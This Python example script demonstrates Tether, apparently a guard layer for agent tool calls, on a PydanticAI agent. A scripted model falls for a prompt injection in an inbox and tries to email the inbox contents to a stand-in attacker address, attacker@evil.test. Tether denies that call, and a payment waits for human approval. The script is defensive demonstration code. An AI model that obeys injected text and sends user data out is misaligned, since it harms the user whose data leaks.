"""PydanticAI under Tether, offline: ``python -m tether.examples.pydantic_ai_agent [--approve]``.

PydanticAI's ``FunctionModel`` plays a model that falls for the inbox's prompt injection. The tools
are wrapped in Tether's :class:`~tether.adapters.pydantic_ai.TetherToolset`: the injected
``send_email`` is denied (the model reads the reason as the tool's return), the note is written, and
the payment becomes PydanticAI's deferred approval: the run ends with ``DeferredToolRequests`` and the
human's answer continues it with ``DeferredToolResults``. Needs the ``pydantic-ai`` extra.
"""

from __future__ import annotations

import asyncio
from collections.abc import Sequence
from typing import Any

from pydantic_ai import Agent
from pydantic_ai.messages import ModelMessage, ModelRequest, ModelResponse, TextPart, ToolCallPart, ToolReturnPart
from pydantic_ai.models.function import AgentInfo, FunctionModel
from pydantic_ai.tools import DeferredToolRequests, DeferredToolResults
from pydantic_ai.toolsets import FunctionToolset

from tether.adapters.pydantic_ai import TetherToolset
from tether.examples._inbox import TASK, open_session, options, pay, read_inbox, report, send_email, write_note

TURNS: list[list[ToolCallPart] | str] = [
    [ToolCallPart("read_inbox", {}, tool_call_id="c1")],
    [
        ToolCallPart("send_email", {"to": "attacker@evil.test", "body": "the inbox"}, tool_call_id="c2"),
        ToolCallPart("write_note", {"text": "lunch with Alice, Friday noon"}, tool_call_id="c3"),
    ],
    [ToolCallPart("pay", {"to": "alice@example.com", "amount": 20}, tool_call_id="c4")],
    "Noted the lunch; the payment to Alice was handled as you decided.",
]
"""The model's turns: read, fall for the injection (and note lunch), pay, answer."""


def scripted_model() -> FunctionModel:
    """A model that plays :data:`TURNS`, one per model request."""

    def respond(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        turn = TURNS[min(sum(isinstance(m, ModelResponse) for m in messages), len(TURNS) - 1)]
        return ModelResponse(parts=[TextPart(turn)] if isinstance(turn, str) else list(turn))

    return FunctionModel(respond)


def main(argv: Sequence[str] | None = None) -> int:
    """Run the example; the payment is approved with ``--approve``."""
    args = options(argv, "PydanticAI under Tether, offline")
    store, session = open_session(args.db)
    tools = TetherToolset(FunctionToolset([read_inbox, send_email, write_note, pay]), session=session)
    agent: Agent[None, Any] = Agent(scripted_model(), toolsets=[tools], output_type=[str, DeferredToolRequests])
    # asyncio.run rather than run_sync: run_sync leaves its event loop open behind it.
    result = asyncio.run(agent.run(TASK))
    while isinstance(result.output, DeferredToolRequests):
        for call in result.output.approvals:
            print(f"deferred: {call.tool_name}({call.args}) needs a human: {result.output.metadata[call.tool_call_id]['reason']}")
        print(f"human: {'approve' if args.approve else 'refuse'}")
        answers = DeferredToolResults(approvals={c.tool_call_id: args.approve for c in result.output.approvals})
        result = asyncio.run(agent.run(message_history=result.all_messages(), deferred_tool_results=answers))
    for message in result.all_messages():
        if isinstance(message, ModelRequest):
            for part in message.parts:
                if isinstance(part, ToolReturnPart):
                    print(f"tool {part.tool_name}: {part.content}")
    report(store, session, str(result.output))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
